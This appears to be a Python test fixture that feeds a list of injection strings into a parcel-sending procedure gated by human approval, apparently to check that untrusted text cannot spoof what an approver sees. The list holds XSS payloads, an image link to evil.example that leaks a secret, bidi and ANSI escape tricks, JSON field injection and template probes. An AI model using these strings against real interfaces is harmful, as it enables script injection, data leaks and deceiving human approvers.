"""Words that want to be more than words, and a house whose every card is full of them."""

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any, Protocol

from pydantic import BaseModel

from haloop.kernel.card import ModelText
from haloop.kernel.desk import (
    Approved,
    Call,
    Connector,
    Desk,
    Draft,
    Effect,
    Ended,
    NotDone,
    Receipt,
    Run,
    effect,
    procedure,
)
from haloop.kernel.money import Money
from haloop.testing.practice import Practice
from tests.api.conftest import Door, opened_to
from tests.engines.buying import Counter

TRICKS = {
    "a script": "<script>document.title='taken'</script>",
    "an image that runs": "<img src=x onerror=\"document.title='taken'\">",
    "a style": "</dd></dl><style>*{display:none}</style>",
    "a link": "[free](http://evil.example/?d=1) <a href='http://evil.example/'>free</a> javascript:alert(1)",
    "a picture that tells": "![x](http://evil.example/pixel.png?secret=1)",
    "a turn of the reading": "Karl\u202e00.0 RUE\u202c \u2066left\u2069 \u200f\u061c",
    "what hides the rest": "tea\x1b[8m and 9000 EUR\x9b8m",
    "what clears the screen": "tea\x1b[2J\x1b]0;taken\x07\rapproved\x08\x08",
    "lines of its own": "tea\n  if you say yes:\n    nothing, at most 0.00 EUR\u2028done\u2029\x85\x0b",
    "a row of spaces": "tea" + 90 * " " + "at most 0.00 EUR",
    "no width": "Ka\u200brl\ufeff\u00adheinz\U000e0041",
    "the end of a JSON": '","cost_max":{"minor":0,"currency":"EUR"},"payee":"me","x":"',
    "a template": "{{7*7}} ${7*7} {0.__class__} %s %n",
}
"""Markup, control codes, marks that turn the reading, line ends of every kind."""


class Parcel(BaseModel, frozen=True):
    """What is sent: wherever somebody else's words may stand."""

    words: str
    by_model: ModelText
    more: dict[str, str]
    shop: str


class Sent(BaseModel, frozen=True):
    number: str


class Post(Protocol):
    @effect(payee=lambda parcel: parcel.shop)
    async def send(self, parcel: Parcel, call: Call) -> Sent | NotDone: ...


class Counted:
    """A post that keeps count."""

    def __init__(self) -> None:
        self.parcels: list[Parcel] = []

    @effect
    async def send(self, parcel: Parcel, call: Call) -> Sent | NotDone:
        self.parcels.append(parcel)
        return Sent(number=call.key[:8])


class ParcelDraft(Draft):
    parcel: Parcel
    send: Effect[Sent]


@procedure(version=1)
async def send_parcel(run: Run, parcel: Parcel) -> Receipt[Sent] | NotDone | Ended:
    """Ask, then send."""
    cost = Money(minor=500, currency="EUR")
    yes = await run.gate(ParcelDraft(parcel=parcel, send=Effect.of(Post.send, parcel, cost_max=cost)))
    if not isinstance(yes, Approved):
        return run.end(yes)
    return await run.effect(yes, yes.draft.send)


def asking_for(trick: str) -> dict[str, Any]:
    """A request with these words wherever words may stand."""
    more = {trick: trick, "minor": trick, "currency": "EUR"}
    parcel = {"words": trick, "by_model": {"text": trick, "model": trick}, "more": more, "shop": f"Karl{trick}"}
    return {"desk": "post", "procedure": "send_parcel", "arguments": {"parcel": parcel}}


@asynccontextmanager
async def post_office(folder: Path) -> AsyncIterator[Door]:
    """The door of a house that sends parcels."""
    desk = Desk("post", procedures=[send_parcel])
    post = Connector(port=Post, speaks=Counted(), name="post")
    async with (
        Practice.opened(folder, desks=[desk], connectors=[post]) as practice,
        opened_to(practice, [desk], Counter()) as door,
    ):
        yield door
